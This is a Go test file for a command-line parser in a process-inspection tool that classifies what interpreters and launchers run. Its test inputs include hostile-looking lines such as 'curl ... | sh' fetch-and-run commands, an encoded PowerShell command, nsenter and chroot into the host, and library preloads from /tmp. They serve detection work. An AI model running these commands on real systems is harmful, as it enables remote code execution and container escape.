package command_test

import (
	"fmt"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/backtrail/backtrail/inspect/command"
)

func TestParse(t *testing.T) {
	code, script, input := command.Code, command.Script, command.Input
	for _, tt := range []struct {
		program, line string
		kind          command.Kind
		target        string
	}{
		{"/usr/local/bin/python3.12", "python -m gateway", command.Module, "gateway"},
		{"/usr/bin/python3", "python3 -Im http.server 80", command.Module, "http.server"},
		{"/usr/bin/python3", "python3 -W ignore -X utf8 /srv/app.py --port 80", script, "/srv/app.py"},
		{"/usr/bin/python3", "python3 -c import os; os.system('id')", code, "import os; os.system('id')"},
		{"/usr/bin/python3", "python3 -", input, ""},
		{"/usr/bin/python3.11", "celery /usr/local/bin/celery -A app worker", script, "/usr/local/bin/celery"},
		{"/usr/local/bin/node", "/usr/local/bin/node server.js", script, "server.js"},
		{"/usr/local/bin/node", "node --require /opt/hook.js --max-old-space-size=512 dist/main.js", script, "dist/main.js"},
		{"/usr/local/bin/node", "node -e require('net')", code, "require('net')"},
		{"/usr/local/bin/bun", "bun run index.ts", script, "index.ts"},
		{"/usr/bin/deno", "deno run --allow-net main.ts", script, "main.ts"},
		{"/opt/java/openjdk/bin/java", "java -Xmx1g -jar /app/app.jar --x", command.Jar, "/app/app.jar"},
		{"/usr/bin/java", "java -cp /app/lib/a.jar:/app/lib/b.jar -Da=b com.example.Main", command.Class, "com.example.Main"},
		{"/usr/bin/java", "java --add-opens java.base/java.lang=ALL-UNNAMED -m app/com.example.Main", command.Class, "app/com.example.Main"},
		{"/usr/bin/ruby3.1", "ruby -I lib -rjson /app/run.rb", script, "/app/run.rb"},
		{"/usr/bin/perl", "perl -we print 1", code, "print 1"},
		{"/usr/bin/perl", "perl -I /lib /srv/x.pl", script, "/srv/x.pl"},
		{"/usr/local/bin/php", "php -d memory_limit=1G artisan queue:work", script, "artisan"},
		{"/usr/local/sbin/php-fpm", "php-fpm: pool www", input, ""},
		{"/usr/bin/dotnet", "dotnet Shop.dll", script, "Shop.dll"},
		{"/usr/bin/bash", "bash", input, ""},
		{"/usr/bin/bash", "bash -i", input, ""},
		{"/usr/bin/bash", "bash -lc curl http://192.0.2.1 | sh", code, "curl http://192.0.2.1 | sh"},
		{"/usr/bin/dash", "15-resolver-cac /docker-entrypoint.d/15-resolver-cache.sh", script, "/docker-entrypoint.d/15-resolver-cache.sh"},
		{"/usr/bin/dash", "sh -e /srv/start.sh -c x", script, "/srv/start.sh"},
		{"/bin/busybox", "sh /start.sh", script, "/start.sh"},
		{"/bin/busybox", "busybox sh -c id", code, "id"},
		{"/bin/busybox", "start.sh /srv/start.sh", script, "/srv/start.sh"},
		{"/bin/busybox", "wget http://192.0.2.1/x", "", ""},
		{"/usr/bin/env", "env -i PATH=/bin python3 /srv/x.py", script, "/srv/x.py"},
		{"/usr/bin/timeout", "timeout -k 5 10 /srv/run -v", command.Program, "/srv/run"},
		{"/sbin/tini", "tini -g -- sh /srv/x.sh", script, "/srv/x.sh"},
		{"/usr/sbin/gosu", "gosu redis redis-server", command.Program, "redis-server"},
		{"/lib64/ld-linux-x86-64.so.2", "ld-linux-x86-64.so.2 --library-path /lib /tmp/x", command.Program, "/tmp/x"},
		{"/lib/ld-musl-x86_64.so.1", "ld-musl-x86_64.so.1 --preload /tmp/h.so /usr/bin/python3 /srv/x.py", script, "/srv/x.py"},
		{"/usr/bin/curl", "curl -O http://192.0.2.1/x", "", ""},
		{"/srv/run", "run --all", "", ""},
		// An option that is a flag to one launcher takes a value with another.
		{"/usr/bin/nice", "nice -n 10 /srv/run", command.Program, "/srv/run"},
		{"/usr/bin/sudo", "sudo -n /srv/run -n 10", command.Program, "/srv/run"},
		{"/usr/bin/sudo", "sudo -S -u app python3 /srv/x.py", script, "/srv/x.py"},
		{"/usr/bin/sudo", "sudo -i", input, ""},
		{"/usr/bin/watch", "watch -d -n 2 /srv/run", command.Program, "/srv/run"},
		{"/usr/bin/watch", "watch A=1 x", command.Program, "A=1"},
		{"/usr/bin/setsid", "setsid -c /tmp/.x", command.Program, "/tmp/.x"},
		{"/usr/bin/time", "time -p perl /srv/x.pl", script, "/srv/x.pl"},
		{"/usr/bin/unshare", "unshare -p -f /tmp/x", command.Program, "/tmp/x"},
		{"/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n -p /bin/sh -c id", code, "id"},
		{"/sbin/tini", "tini -g /srv/run", command.Program, "/srv/run"},
		{"/usr/bin/stdbuf", "stdbuf -oL /srv/run", command.Program, "/srv/run"},
		{"/usr/bin/stdbuf", "stdbuf -o L /srv/run", command.Program, "/srv/run"},
		{"/usr/bin/ionice", "ionice -c 3 nice -n 19 bash /srv/x.sh", script, "/srv/x.sh"},
		{"/usr/bin/strace", "strace -f -o /tmp/o /srv/run", command.Program, "/srv/run"},
		{"/usr/bin/xargs", "xargs -I {} -n 1 sh -c id", code, "id"},
		{"/usr/bin/dumb-init", "dumb-init -r 15:3 -- /srv/run", command.Program, "/srv/run"},
		{"/usr/bin/chroot", "chroot /host /bin/bash", input, ""},
		{"/usr/bin/setpriv", "setpriv --reuid 1000 --clear-groups /srv/run", command.Program, "/srv/run"},
		{"/usr/bin/env", "env -u HOME A=1 node server.js", script, "server.js"},
		{"/usr/bin/env", "env", input, ""},
		{"/usr/bin/nohup", "nohup env nohup env nohup env nohup /srv/run", input, ""}, // past the bound: nothing is named
		// Interpreters by other names, by other options, and those that were given nothing.
		{"/usr/bin/lua5.4", "lua5.4 /srv/x.lua", script, "/srv/x.lua"},
		{"/usr/bin/gawk", "awk -f /srv/x.awk data", script, "/srv/x.awk"},
		{"/usr/bin/mawk", "mawk BEGIN{system(\"id\")}", script, "BEGIN{system(\"id\")}"},
		{"/usr/bin/pwsh", "pwsh -NoProfile -EncodedCommand SQBFAFgA", code, "SQBFAFgA"},
		{"/usr/bin/pwsh", "pwsh -ExecutionPolicy Bypass -File /srv/x.ps1", script, "/srv/x.ps1"},
		{"/usr/bin/dotnet", "dotnet exec --depsfile /a.json Shop.dll", script, "Shop.dll"},
		{"/usr/bin/deno", "deno eval Deno.run()", code, "Deno.run()"},
		{"/usr/local/bin/node", "node --env-file .env -C dev server.js", script, "server.js"},
		{"/usr/local/bin/node", "node --eval=1", code, "1"},
		{"/usr/bin/ruby", "ruby -E utf-8 -e puts 1", code, "puts 1"},
		{"/usr/bin/php8.2", "php -f /srv/x.php", script, "/srv/x.php"},
		{"/usr/bin/php8.2", "php -r echo 1;", code, "echo 1;"},
		{"/usr/lib/cgi-bin/php-cgi", "php-cgi /srv/x.php", input, ""},
		{"/usr/bin/bash", "bash -o pipefail -O extglob /srv/x.sh", script, "/srv/x.sh"},
		{"/usr/bin/bash", "bash -s -- arg", input, ""},
		{"/usr/bin/python3", "python3 -- /srv/x.py", script, "/srv/x.py"},
		{"/usr/bin/python3", "python3 -mhttp.server", command.Module, "http.server"},
		{"/usr/bin/python3", "python3 --check-hash-based-pycs always -u /srv/x.py", script, "/srv/x.py"},
		{"/usr/bin/java", "java -p /mods --add-modules a,b -m app/com.example.Main", command.Class, "app/com.example.Main"},
		{"/usr/bin/java", "java -cp", input, ""},
		{"/usr/bin/bash (deleted)", "bash /tmp/x.sh", script, "/tmp/x.sh"},
		{"/usr/bin/python3", "", input, ""},
	} {
		r := command.Parse(tt.program, tt.line)
		if r.Kind != tt.kind || r.Target != tt.target {
			t.Errorf("%s %q: %s %q, want %s %q", tt.program, tt.line, r.Kind, r.Target, tt.kind, tt.target)
		}
	}
}

func TestWhatIsLoaded(t *testing.T) {
	for line, want := range map[string][]string{
		"node --require /opt/hook.js --import=./b.mjs server.js":              {"/opt/hook.js", "./b.mjs"},
		"java -javaagent:/opt/agent.jar=x=y -cp /lib/*:/app com.example.Main": {"/opt/agent.jar", "/lib/*", "/app"},
		"bash --rcfile /tmp/rc":    {"/tmp/rc"},
		"ruby -rjson -r ./x a.rb":  {"json", "./x"},
		"ld.so --preload /a:/b /c": {"/a", "/b"},
	} {
		program, _, _ := strings.Cut(line, " ")
		if got := command.Parse("/usr/bin/"+program, line).Loads; !reflect.DeepEqual(got, want) {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
}

func TestRoles(t *testing.T) {
	for program, want := range map[string]command.Role{
		"/usr/local/bin/python3.12": command.Interpreter, "/usr/bin/pypy3": command.Interpreter, "/bin/sh": command.Interpreter,
		"/lib64/ld-linux-x86-64.so.2": command.Launcher, "/bin/busybox": command.Launcher, "/usr/bin/env": command.Launcher,
		"/usr/bin/apt-get": command.Tool, "/usr/bin/pip3.12": command.Tool, "/bin/nc": command.Tool,
		"/usr/sbin/nginx": command.Other, "/srv/pythonic": command.Other, "": command.Other,
	} {
		if got := command.RoleOf(program); got != want {
			t.Errorf("%s: %q, want %q", program, got, want)
		}
	}
}

func TestInstalls(t *testing.T) {
	for line, want := range map[string]bool{
		"sh -c apt-get update && apt-get install -y nmap": true, "sh -c apk add --no-cache curl": true, "sh -c pip install x": true,
		"python3 -m pip install x": true, "python3 -m pip list": false, "python3 /usr/local/bin/pip install x": true,
		"python3 /srv/install.py install": false, "node /usr/local/bin/npm ci": true, "node /usr/local/bin/npm start": false,
		"ruby /usr/bin/gem install x": true, "php /usr/bin/composer require a/b": true, "sudo -n apt-get install -y nmap": true,
		"sh -c echo pip": false, "sh -c curl x | sh": false, "apt-get install -y nmap": true, "curl x": false,
	} {
		program, _, _ := strings.Cut(line, " ")
		if got := command.Parse("/usr/bin/"+program, line).Installs; got != want {
			t.Errorf("%s: %v", line, got)
		}
	}
}

func TestShellsAndWhatHoldsOne(t *testing.T) {
	for program, want := range map[string]bool{
		"/bin/sh": true, "/usr/bin/bash": true, "/bin/busybox": true, "/bin/toybox": true, "/usr/bin/rbash": true,
		"/usr/bin/python3": false, "/usr/bin/ssh": false, "/srv/sh-tool": false, "": false,
	} {
		if got := command.IsShell(program); got != want {
			t.Errorf("%s: %v", program, got)
		}
		if r := command.Parse(program, program); r.Shell && !want {
			t.Errorf("%s is read as a shell: %+v", program, r)
		}
	}
	for _, line := range []string{"bash -c id", "busybox sh", "env bash", "timeout 5 sh /x.sh", "sudo -u app bash"} {
		program, _, _ := strings.Cut(line, " ")
		if r := command.Parse("/usr/bin/"+program, line); !r.Shell {
			t.Errorf("%s is not read as a shell: %+v", line, r)
		}
	}
}

// What a process is called is chosen by whoever started it: the program that the kernel ran decides on the reading.
func TestTheNameOfTheProcessIsNoProgram(t *testing.T) {
	for line, want := range map[string]string{
		"[kworker/0:1] /tmp/x.py": "/tmp/x.py", "nginx: worker": "worker", "-bash": "", "sh -c id": "",
	} {
		r := command.Parse("/usr/bin/python3", line)
		if r.Role != command.Interpreter || want != "" && r.Target != want {
			t.Errorf("%q: %+v", line, r)
		}
		if r.Shell {
			t.Errorf("%q by python is read as a shell", line)
		}
	}
}

// A line of any length is read to a bound, and is still text.
func TestLongLinesAreCut(t *testing.T) {
	r := command.Parse("/bin/sh", "sh -c "+strings.Repeat("ä ", command.MaxLine))
	if len(r.Target) > command.MaxLine || !utf8.ValidString(r.Target) || r.Kind != command.Code {
		t.Errorf("%d bytes of %s", len(r.Target), r.Kind)
	}
	loads := command.Parse("/usr/bin/java", "java -cp "+strings.Repeat("/a:", 1000)+" Main")
	if len(loads.Loads) > 32 || loads.Target != "Main" {
		t.Errorf("%d files for %q", len(loads.Loads), loads.Target)
	}
}

func Example() {
	// Falco names the program that the kernel ran; what it ran stands in its arguments.
	for _, line := range []string{"python3 -m gateway", "sh -c curl -s http://192.0.2.1/x | sh", "timeout 5 java -jar /app/shop.jar"} {
		program, _, _ := strings.Cut(line, " ")
		run := command.Parse("/usr/bin/"+program, line)
		fmt.Printf("%s %s: %s\n", run.Role, run.Kind, run.Target)
	}
	// Output:
	// interpreter module: gateway
	// interpreter code: curl -s http://192.0.2.1/x | sh
	// interpreter jar: /app/shop.jar
}

// Programs that start one another without end stop at a bound, and no words make the parser panic.
func FuzzParse(f *testing.F) {
	f.Add("/usr/bin/env", strings.Repeat("env ", 400))
	f.Add("/bin/busybox", "busybox busybox sh -c x")
	f.Add("/usr/bin/java", "java -cp")
	f.Add("/usr/bin/perl", "perl -")
	f.Fuzz(func(t *testing.T, program, line string) {
		r := command.Parse(program, line)
		if len(r.Loads) > 32 || len(r.Target) > command.MaxLine {
			t.Errorf("%+v", r)
		}
		form(t, program, line, r)
	})
}
